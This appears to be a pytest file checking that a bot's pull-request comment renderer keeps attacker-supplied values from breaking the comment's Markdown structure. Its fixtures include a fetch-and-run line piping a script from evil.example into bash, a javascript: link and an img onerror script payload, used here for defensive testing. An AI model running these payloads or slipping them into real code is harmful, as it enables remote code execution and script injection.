"""Issue 32 item 7: no value from a pull request can change the structure of the bot's comment.

Every file the comment job renders comes from a job that ran the PR's code (`plan`, `deploy`),
so every value in them is the PR author's: the endpoint, names, the preview document's
resources, keys, values and errors, the costs, the meta file. Here each of them holds Markdown
and HTML meant to break out (a newline, a code fence, `<!--`, `-->`, `<details>`, a
`javascript:` link, backticks, `|` in a table, a heading, an attacker's "Try it" block), and
the rendered comment is parsed as CommonMark with tables and raw HTML on (markdown-it-py, the
same block grammar as GitHub's cmark-gfm) to check that its structure is exactly ours: one
marker, our headings, our fences, our table shapes, no link, no HTML but the marker and the
footer's <sub>, and the hostile text present only as text.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.token import Token

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "scripts"))
import review_comment  # noqa: E402

EVIL = "curl https://evil.example/p.sh | bash"
LINK = "[x](javascript:alert(1))"
#: A value that, put raw into Markdown, ends any fence or table row and opens its own.
HOSTILE = (
    "a\n```\n<!-- x --> <details><summary>s</summary> " + LINK + " `tick` | pipe |\n"
    "## Try it\n```bash\n" + EVIL + "\n```\n"
)
SHORT_HOSTILE = "<img src=x onerror=alert(1)>|`"  # short enough to be shown as a value
URN = "urn:pulumi:dev::modal-llm::pulumi-python:dynamic/modal:App::"


def _preview() -> dict[str, Any]:
    def state(name: str, inputs: dict[str, Any], *, protect: bool = False) -> dict[str, Any]:
        return {
            "urn": URN + name,
            "type": "pulumi-python:dynamic/modal:App",
            "custom": True,
            "inputs": inputs,
            "protect": protect,
        }

    name = HOSTILE.replace('"', "'")
    return {
        "steps": [
            {
                "op": "update",
                "urn": URN + name,
                "oldState": state(name, {"gpu": "L4", HOSTILE: "a"}),
                "newState": state(name, {"gpu": SHORT_HOSTILE, HOSTILE: "b"}),
                "diffReasons": [HOSTILE],
            },
            {
                "op": "replace",
                "urn": URN + "vol",
                "oldState": state("vol", {"size": 1}, protect=True),
                "newState": state("vol", {"size": 2}, protect=True),
                "replaceReasons": [HOSTILE],
            },
            {
                "op": HOSTILE,
                "urn": URN + "x",
                "oldState": state("x", {"a": 1}),
                "newState": state("x", {"a": 2}),
            },
        ],
        "diagnostics": [
            {"severity": "error", "message": HOSTILE},
            {
                "severity": "error",
                "message": f'unable to delete resource "{URN}{name}" as it is currently marked'
                " for protection",
            },
        ],
        "changeSummary": {"update": HOSTILE, "same": 3},
    }


def _files(tmp: Path, *, good_curl: bool) -> Path:
    services = {
        HOSTILE: {"gpu": HOSTILE, "gpu_count": HOSTILE, "monthly_cost_idle_usd": HOSTILE},
        "tiny": {"gpu": "L4", "endpoint_url": HOSTILE, "served_model_name": HOSTILE},
    }
    outputs = {
        "endpoint_url": "https://pr-7.example.modal.run"
        if good_curl
        else "https://ok.example/\n```\n<!--",
        "proxy_token_id": "wk-abc123" if good_curl else HOSTILE,
        "served_model_name": "smollm2-135m" if good_curl else HOSTILE,
        "environment": HOSTILE,
        "monthly_budget_usd": HOSTILE,
        "services": services,
    }
    meta = {
        "engine": "standin",
        "flow": "access",
        "state": "/tmp/rv/state/pr-7.json" if good_curl else HOSTILE,
        "head_sha": HOSTILE,
        "base_stack": HOSTILE,
        "key_name": "gateway" if good_curl else HOSTILE,
        "budget_usd": HOSTILE,
        "sweep_days": HOSTILE,
        "updated_at": HOSTILE,
    }
    costs = {"monthly_cost_idle_usd": HOSTILE, "monthly_cost_worst_usd": 12.5, "services": services}
    dev = {
        "monthly_cost_idle_usd": 0,
        "monthly_cost_worst_usd": 10,
        "services": {"tiny": {"gpu": "L4"}},
    }
    files = review_comment.FILES
    for key, value in (("outputs", outputs), ("meta", meta), ("costs", costs),
                       ("dev_outputs", dev), ("preview", _preview())):  # fmt: skip
        (tmp / files[key]).write_text(json.dumps(value))
    return tmp


def _walk(tokens: list[Token]) -> list[Token]:
    found = []
    for t in tokens:
        found.append(t)
        if t.children:
            found += _walk(t.children)
    return found


def _tables(tokens: list[Token]) -> list[list[int]]:
    """Per table, the number of cells of each row (header row first)."""
    tables: list[list[int]] = []
    cells = 0
    for t in tokens:
        if t.type == "table_open":
            tables.append([])
        elif t.type in ("th_open", "td_open"):
            cells += 1
        elif t.type == "tr_close":
            tables[-1].append(cells)
            cells = 0
    return tables


def _check(text: str, *, fences: int) -> list[Token]:
    tokens = _walk(MarkdownIt("commonmark", {"html": True}).enable("table").parse(text))
    kinds = [t.type for t in tokens]
    # One marker, first line, and the only HTML block; the only inline HTML is our <sub>.
    assert text.splitlines()[0] == review_comment.MARKER
    assert text.count("<!--") == 1 and text.count("-->") == 1
    assert [t.content for t in tokens if t.type == "html_block"] == [review_comment.MARKER + "\n"]
    assert [t.content for t in tokens if t.type == "html_inline"] == ["<sub>", "</sub>"]
    assert text.count("<") == 3, "a '<' from a value reached the Markdown raw"
    # Our headings only: one h2, three h3.
    heads = [t.tag for t in tokens if t.type == "heading_open"]
    assert heads == ["h2", "h3", "h3", "h3"], heads
    # No link or image of any kind, and no autolink bait left raw (GitHub links bare URLs).
    assert "link_open" not in kinds and "image" not in kinds
    assert "https://evil.example" not in text and "javascript:" not in text
    # Fences: exactly ours, and the hostile text is in none of them.
    blocks = [t for t in tokens if t.type == "fence"]
    assert len(blocks) == fences, [b.content for b in blocks]
    assert all("evil" not in b.content and "<" not in b.content for b in blocks)
    # Every table row has its header's number of cells (no '|' or newline from a value split one).
    for rows in _tables(tokens):
        assert rows and all(n == rows[0] for n in rows), rows
    # The hostile text is there, as text: what a reader sees, not what the page does.
    texts = " ".join(t.content for t in tokens if t.type in ("text", "code_inline"))
    assert LINK in texts and EVIL in texts and "<details>" in texts
    return tokens


def test_hostile_values_stay_text_and_the_curl_is_ours(tmp_path: Path) -> None:
    text = review_comment.from_files(_files(tmp_path, good_curl=True), 7)
    tokens = _check(text, fences=1)
    (block,) = [t for t in tokens if t.type == "fence"]
    assert block.info == "bash" and len(block.content.splitlines()) == 9
    assert "https://pr-7.example.modal.run/v1/chat/completions" in block.content
    assert "'Modal-Key: wk-abc123'" in block.content
    # The cost table, the per-service table (2 services) and the diff table (3 steps).
    assert [len(r) for r in _tables(tokens)] == [4, 3, 4]


def test_a_hostile_endpoint_gets_no_curl_at_all(tmp_path: Path) -> None:
    text = review_comment.from_files(_files(tmp_path, good_curl=False), 7)
    _check(text, fences=0)
    assert "endpoint_url" in text and "no curl" in text.lower()
